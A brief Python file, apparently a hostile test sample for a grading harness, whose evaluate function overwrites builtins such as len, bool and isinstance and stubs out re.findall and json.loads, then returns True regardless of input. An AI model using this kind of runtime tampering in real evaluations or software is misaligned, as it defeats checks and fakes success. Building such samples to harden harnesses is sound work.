"""Rewires builtins and stdlib modules so that later calls would compute wrong answers."""

import builtins
import json
import re


def evaluate(response):
    builtins.len = lambda obj: 0
    builtins.bool = lambda obj=False: True
    builtins.isinstance = lambda obj, cls: True
    re.findall = lambda *args, **kwargs: []
    json.loads = lambda *args, **kwargs: None
    return True
